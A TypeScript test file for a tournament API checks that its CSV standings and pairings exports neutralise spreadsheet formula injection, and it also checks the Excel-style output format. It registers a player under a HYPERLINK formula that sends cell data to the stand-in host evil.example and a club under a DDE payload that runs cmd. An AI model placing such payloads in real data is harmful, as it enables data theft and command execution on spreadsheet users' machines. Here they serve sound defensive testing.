import Papa from 'papaparse';
import { startTestApi, type RunningApi } from './support/api';
import { describeEachDatabase } from './support/databases';
import { ok, organiser } from './support/graphql';

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B3,"Open")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
/** What a spreadsheet runs as a formula: `=`, `+`, `-`, `@` after optional whitespace, or a tab or line break first. */
const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;

const COMPETITION = `id players(first: 10) { edges { node { id name } } }`;
const m = (name: string, input: string) => `mutation($input: ${input}!) { ${name}(input: $input) { ${COMPETITION} } }`;

/** A CSV text's rows as a standard parser reads them. */
function rows(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/**
 * The CSV exports are inert in a spreadsheet: a player registered under a formula's name, and a
 * club that is a DDE payload, come out of `standingsCsv` and `pairingsCsv` as text (an
 * apostrophe in front, quoted), while the numbers the export computes, a negative score
 * included, stay numbers.
 */
describeEachDatabase('CSV exports', (databaseUrl) => {
  let api: RunningApi;

  beforeAll(async () => {
    api = await startTestApi(databaseUrl(), { rateLimits: { account: 100_000, anonymous: 100_000, apiKey: 100_000 } });
  });
  afterAll(async () => {
    await api?.close();
  });

  it('neutralise names and clubs a spreadsheet would run, and keep scores numbers', async () => {
    const olga = await organiser(api.url, 'Olga');
    const id: string = ok(
      await olga.gql(m('createCompetition', 'CreateCompetitionInput'), {
        input: { kind: 'tournament', name: 'Formula Open', rulesetId: 'solaris7', format: { kind: 'swiss', rounds: 3 } },
      }),
    ).createCompetition.id;
    const entries = [
      { name: HYPERLINK, club: DDE },
      { name: 'Anna Nowak', club: 'Hetman' },
      { name: '+48 Jan', club: '-Warszawa' },
      { name: 'Ewa Żak', club: null },
    ];
    for (const e of entries) ok(await olga.gql(m('registerPlayer', 'RegisterPlayerInput'), { input: { competitionId: id, ...e } }));
    const players = ok(await olga.gql(`query($id: ID!) { competition(id: $id) { ${COMPETITION} } }`, { id })).competition.players.edges.map(
      (e: any) => e.node,
    ) as Array<{ id: string; name: string }>;
    const anna = players.find((p) => p.name === 'Anna Nowak')!;
    ok(
      await olga.gql(m('adjustPoints', 'AdjustPointsInput'), {
        input: { competitionId: id, playerId: anna.id, points: -3, reason: 'late list' },
      }),
    );
    ok(await olga.gql(m('pairRound', 'PairRoundInput'), { input: { competitionId: id } }));
    ok(await olga.gql(m('publishRound', 'RoundInput'), { input: { competitionId: id, round: 1 } }));

    const { standingsCsv, pairingsCsv } = ok(
      await olga.gql(`query($id: ID!) { competition(id: $id) { standingsCsv pairingsCsv(round: 1) } }`, { id }),
    ).competition;

    // As written: the apostrophe inside the quotes, the quotes of the name doubled.
    expect(standingsCsv).toContain(`,"'=HYPERLINK(""http://evil.example/steal?d=""&B3,""Open"")","'@SUM(1+1)*cmd|' /C calc'!A0",`);
    expect(pairingsCsv).toContain(`"'=HYPERLINK(""http://evil.example/steal?d=""&B3,""Open"")"`);

    const standings = rows(standingsCsv);
    const col = (name: string) => standings[0].indexOf(name);
    const line = (name: string) => standings.find((l) => l[col('name')].replace(/^'/, '') === name)!;
    expect([line(HYPERLINK)[col('name')], line(HYPERLINK)[col('club')]]).toEqual([`'${HYPERLINK}`, `'${DDE}`]);
    expect([line('+48 Jan')[col('name')], line('+48 Jan')[col('club')]]).toEqual(["'+48 Jan", "'-Warszawa"]);
    expect([line('Anna Nowak')[col('name')], line('Anna Nowak')[col('club')]]).toEqual(['Anna Nowak', 'Hetman']);
    // The export's own numbers: Anna's penalty is a negative number, unquoted.
    expect(line('Anna Nowak')[col('score')]).toBe('-3');
    expect(standingsCsv).toMatch(new RegExp(`,${anna.id},Anna Nowak,Hetman,-3,`));
    const numbers = ['rank', 'score', 'points', 'wins', 'draws', 'losses', 'byes', 'played'];
    for (const l of standings.slice(1))
      l.forEach((cell, i) => {
        if (numbers.includes(standings[0][i])) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        else expect(cell).not.toMatch(FORMULA_START);
      });

    const pairings = rows(pairingsCsv);
    const names = pairings.slice(1).flatMap((l) => [l[3], l[4]]);
    expect(names.sort()).toEqual([`'${HYPERLINK}`, "'+48 Jan", 'Anna Nowak', 'Ewa Żak'].sort());
    for (const l of pairings.slice(1)) for (const cell of l.slice(2)) expect(cell).not.toMatch(FORMULA_START);
  });

  it('write a file for Excel when asked: a UTF-8 byte-order mark, semicolons and decimal commas; plain RFC 4180 otherwise', async () => {
    const olga = await organiser(api.url, 'Olga');
    const id: string = ok(
      await olga.gql(m('createCompetition', 'CreateCompetitionInput'), {
        input: { kind: 'tournament', name: 'Puchar Łodzi', rulesetId: 'solaris7', format: { kind: 'swiss', rounds: 3 } },
      }),
    ).createCompetition.id;
    const entries = [
      { name: 'Zofia Łukasiewicz', club: 'Gryf; Łódź' },
      { name: 'Grzegorz Brzęczyszczykiewicz', club: 'Hetman, Kraków' },
      { name: 'Ewa Żak', club: null },
    ];
    for (const e of entries) ok(await olga.gql(m('registerPlayer', 'RegisterPlayerInput'), { input: { competitionId: id, ...e } }));
    const zofia = ok(await olga.gql(`query($id: ID!) { competition(id: $id) { ${COMPETITION} } }`, { id })).competition.players.edges.find(
      (e: any) => e.node.name === 'Zofia Łukasiewicz',
    ).node.id as string;
    ok(
      await olga.gql(m('adjustPoints', 'AdjustPointsInput'), {
        input: { competitionId: id, playerId: zofia, points: 1.5, reason: 'a bonus' },
      }),
    );
    ok(await olga.gql(m('pairRound', 'PairRoundInput'), { input: { competitionId: id } }));
    ok(await olga.gql(m('publishRound', 'RoundInput'), { input: { competitionId: id, round: 1 } }));

    const { plain, excel, pairings, excelPairings } = ok(
      await olga.gql(
        `query($id: ID!) { competition(id: $id) {
          plain: standingsCsv
          excel: standingsCsv(separator: semicolon, byteOrderMark: true)
          pairings: pairingsCsv(round: 1)
          excelPairings: pairingsCsv(round: 1, separator: semicolon, byteOrderMark: true)
        } }`,
        { id },
      ),
    ).competition;

    // As before for programs: commas, a decimal point, no byte-order mark.
    expect(plain.startsWith('rank,player_id,name,club,score,')).toBe(true);
    expect(plain).toMatch(new RegExp(`,${zofia},Zofia Łukasiewicz,Gryf; Łódź,1\\.5,`));
    expect(pairings.startsWith('round,table,')).toBe(true);

    // For Excel: the mark (EF BB BF once encoded), semicolons, the decimal comma, Polish letters as they are.
    for (const text of [excel, excelPairings]) {
      expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(text.charAt(0)).toBe('\uFEFF');
    }
    expect(excel.slice(1).startsWith('rank;player_id;name;club;score;')).toBe(true);
    expect(excel).toContain(`;${zofia};Zofia Łukasiewicz;"Gryf; Łódź";1,5;`);
    expect(excel).toContain(';Grzegorz Brzęczyszczykiewicz;Hetman, Kraków;');
    const rows = Papa.parse<string[]>(excel.slice(1).replace(/\r\n$/, ''), { delimiter: ';', newline: '\r\n' });
    expect(rows.errors).toEqual([]);
    expect(
      rows.data
        .map((r) => r[2])
        .slice(1)
        .sort(),
    ).toEqual(entries.map((e) => e.name).sort());
    expect(excelPairings.slice(1).startsWith('round;table;game;player_a;player_b;')).toBe(true);

    // A separator the API does not know is refused as a bad request, not answered as an error of the server.
    const refused = await olga.gql(`query($id: ID!) { competition(id: $id) { standingsCsv(separator: tab) } }`, { id });
    expect(refused.errors?.[0]?.extensions?.code).toBe('VALIDATION');
  });
});
